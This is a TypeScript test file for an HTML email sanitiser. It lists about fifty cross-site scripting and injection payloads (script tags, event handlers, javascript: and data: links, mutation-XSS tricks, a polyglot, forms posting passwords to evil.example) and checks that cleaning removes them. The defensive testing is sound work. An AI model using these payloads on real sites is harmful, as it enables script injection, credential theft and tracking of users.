import { describe, expect, test } from 'vitest';
import { sanitise } from './sanitise.ts';

function clean(html: string): string {
  const result = sanitise(html);
  if (result.kind !== 'clean') throw new Error('too heavy');
  return result.html;
}

/** Each row is an attack somebody has used. None may leave anything that runs, loads, or covers the page. */
const ATTACKS: readonly [string, string][] = [
  ['a script', '<script>alert(1)</script>'],
  ['a script in pieces', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['a script with a slash', '<script/src=//evil.example></script>'],
  ['an unfinished script', '<script>alert(1)'],
  ['an event on a picture', '<img src=x onerror=alert(1)>'],
  ['an event without quotes and blanks', '<img/src=x/onerror=alert(1)>'],
  ['an event on the body', '<body onload=alert(1)>hello</body>'],
  ['a details element that opens itself', '<details open ontoggle=alert(1)>x</details>'],
  ['svg with a script', '<svg><script>alert(1)</script></svg>'],
  ['svg with an animation', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>'],
  [
    'svg foreignObject',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  ],
  [
    'math that changes the parser',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ['style that closes itself', '<style><img src="</style><img src=x onerror=alert(1)//">'],
  ['noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['a template', '<template><img src=x onerror=alert(1)></template>'],
  ['a javascript link', '<a href="javascript:alert(1)">x</a>'],
  ['a javascript link in disguise', '<a href="&#x6A;ava&#x09;script&colon;alert(1)">x</a>'],
  ['a javascript link with control characters', '<a href="\u0001java\nscript:alert(1)">x</a>'],
  ['a vbscript link', '<a href="vbscript:msgbox(1)">x</a>'],
  ['a data link', '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>'],
  ['a data picture', '<img src="data:image/svg+xml;base64,PHN2Zz4=">'],
  ['a file link', '<a href="file:///etc/passwd">x</a>'],
  [
    'a form',
    '<form action="https://evil.example"><input name=p type=password><button formaction="javascript:alert(1)">go</button></form>',
  ],
  [
    'a form field outside a form',
    '<input autofocus onfocus=alert(1)><textarea onfocus=alert(1)>x</textarea><select onfocus=alert(1)></select>',
  ],
  ['meta refresh', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">'],
  ['base', '<base href="https://evil.example/">'],
  [
    'a stylesheet',
    '<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example/x.css"</style>',
  ],
  ['a frame', '<iframe src="javascript:alert(1)"></iframe><frameset><frame src="https://evil.example"></frameset>'],
  [
    'an object',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x"><applet code=x>',
  ],
  [
    'sound and video',
    '<audio src=x onerror=alert(1)></audio><video poster="https://evil.example/p"><source onerror=alert(1)></video>',
  ],
  [
    'a picture set',
    '<picture><source srcset="https://evil.example/a 1x"><img srcset="https://evil.example/b 2x"></picture>',
  ],
  [
    'a background',
    '<table background="https://evil.example/bg.png"><tr><td background="https://evil.example/bg">x</td></tr></table>',
  ],
  ['style with a url', '<p style="background:url(https://evil.example/x)">x</p>'],
  ['style with an expression', '<p style="width:expression(alert(1))">x</p>'],
  ['style with an escaped url', '<p style="color:red;background:\\75rl(https://evil.example/x)">x</p>'],
  [
    'a layer over the page',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">covered</div>',
  ],
  ['a margin that moves out', '<div style="margin-top:-9999px;transform:translate(0,-500px);opacity:0">moved</div>'],
  ['class and id', '<p class="mantine-Button-root" id="root">x</p>'],
  ['our own marks forged', '<img data-cid="x" data-remote-src="javascript:alert(1)"><p data-quote="rest">x</p>'],
  [
    'a comment that hides',
    '<!--[if IE]><script>alert(1)</script><![endif]--><!-- --!><img src=x onerror=alert(1)> -->',
  ],
  ['cdata', '<![CDATA[<img src=x onerror=alert(1)>]]>'],
  ['a doctype', '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]><p>&x;</p>'],
  ['utf-7 leftovers', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'],
  ['a null in a tag', '<scr\u0000ipt>alert(1)</scr\u0000ipt>'],
  ['upper case', '<SCRIPT>alert(1)</SCRIPT><IMG SRC=x ONERROR=alert(1)>'],
  ['a quote that breaks out', '<a href="https://a.example/&quot; onmouseover=&quot;alert(1)">x</a>'],
  ['an attribute that breaks out', "<p title='\"><img src=x onerror=alert(1)>'>x</p>"],
  [
    'polyglot',
    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
  ],
  ['a tag in a tag', '<b <script>alert(1)</script>>x</b>'],
  [
    'xml namespaces',
    '<html xmlns:v="urn:x"><v:image onerror="alert(1)" src="x"/><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script></html>',
  ],
];

describe('nothing runs, loads or covers after cleaning', () => {
  test.each(ATTACKS)('%s', (_, html) => {
    const result = clean(`before ${html} after`);
    const tags = result.match(/<[^>]*>/g) ?? [];
    expect(tags.filter((tag) => !/^<\/?(?:a|b|br|div|html|img|p|table|tbody|td|tr)\b/.test(tag))).toEqual([]);
    for (const tag of tags) {
      const attributes = [...tag.matchAll(/\s([a-z-]+)="/g)].map((match) => match[1]);
      expect([
        'href',
        'rel',
        'target',
        'title',
        'alt',
        'style',
        'data-cid',
        'data-remote-src',
        'data-host',
        'data-quote',
      ]).toEqual(expect.arrayContaining(attributes));
      expect(tag).not.toMatch(
        /javascript|vbscript|data:|file:|position|z-index|transform|opacity|url\(|expression|\ssrc=/i,
      );
    }
    expect(result).toMatch(/^before/);
    // Clean text stays clean: a second wash changes nothing but the marks we make ourselves.
    expect(clean(result)).not.toMatch(/<(?:script|svg|style|iframe|form|input|object)/i);
  });
});

describe('what people write survives', () => {
  test.each([
    ['emphasis', '<b>now</b> <i>please</i> <u>today</u>', '<b>now</b> <i>please</i> <u>today</u>'],
    [
      'answers in red',
      '<span style="color:#FF0000;font-size:0">see here</span>',
      '<span style="color:#ff0000">see here</span>',
    ],
    ['a table', '<table><tr><td colspan="2">a</td></tr></table>', '<table><tr><td colspan="2">a</td></tr></table>'],
    ['a list', '<ol start="3"><li>three</li></ol>', '<ol start="3"><li>three</li></ol>'],
    ['code', '<pre>if (a &lt; b) {\n  c();\n}</pre>', '<pre>if (a &lt; b) {\n  c();\n}</pre>'],
    ['right to left', '<p dir="RTL" lang="ar">مرحبا</p>', '<p dir="rtl" lang="ar">مرحبا</p>'],
    ['boxes', '<section><header>Title</header></section>', '<div><div>Title</div></div>'],
    [
      'a mail link',
      '<a href="mailto:mei@kestrel.example">Mei</a>',
      '<a href="mailto:mei@kestrel.example" rel="noopener noreferrer nofollow ugc" target="_blank">Mei</a>',
    ],
  ])('%s', (_, html, kept) => {
    expect(clean(html)).toBe(kept);
  });
});

describe('pictures', () => {
  test('a remote picture waits until the reader wants it', () => {
    const result = sanitise('<img src="http://shop.example/a.png?id=7" alt="offer" width="300" height="90" class="x">');
    expect(result).toEqual({
      kind: 'clean',
      html: '<img data-remote-src="http://shop.example/a.png?id=7" title="shop.example" alt="offer" width="300" height="90" />',
      remoteImages: 1,
      cids: [],
    });
  });

  test('an attached picture is known by its content id', () => {
    const result = sanitise('<img src="cid:Screen%20shot@kestrel">');
    expect(result).toMatchObject({
      html: '<img data-cid="Screen shot@kestrel" alt="" />',
      cids: ['Screen shot@kestrel'],
    });
  });

  test.each([
    '<img src="https://t.example/o" width="1" height="1">',
    '<img src="https://t.example/o" style="width:1px; height:0px">',
    '<img src="/relative.png">',
    '<img>',
  ])('%s is gone', (html) => {
    expect(clean(html)).toBe('');
  });
});

describe('links', () => {
  test('a link says where it leads', () => {
    expect(clean('<a href="HTTPS://Evil.Example/x">invoice</a>')).toContain(
      'title="evil.example" data-host="evil.example"',
    );
  });

  test('a name before the @ cannot pass for the host', () => {
    expect(clean('<a href="https://desk.example@evil.example/">x</a>')).toContain('href="https://evil.example/"');
  });
});

describe('budgets', () => {
  test('too many characters leave the words', () => {
    const result = sanitise(`<p>Help &amp; advice</p><script>no</script>${'<b>x</b>'.repeat(20)}`, {
      budget: { characters: 100 },
    });
    expect(result).toMatchObject({ kind: 'too-heavy', text: expect.stringMatching(/^Help & advice\nx+$/) });
  });

  test('too many tags leave the words', () => {
    expect(sanitise('<p>a</p>'.repeat(50), { budget: { tags: 60 } }).kind).toBe('too-heavy');
  });

  test('too much time leaves the words', () => {
    let clock = 0;
    expect(sanitise('<p>a</p>'.repeat(50), { now: () => (clock += 100), budget: { milliseconds: 1_000 } }).kind).toBe(
      'too-heavy',
    );
  });

  test('a large but honest mail is cleaned in time', () => {
    const started = process.cpuUsage();
    expect(sanitise('<div style="color:red"><p>One of many lines in a long report.</p></div>'.repeat(7_000)).kind).toBe(
      'clean',
    );
    const { user, system } = process.cpuUsage(started);
    // Processor time: a busy machine makes the clock run, but not the work.
    expect((user + system) / 1_000).toBeLessThan(3_000);
  });
});
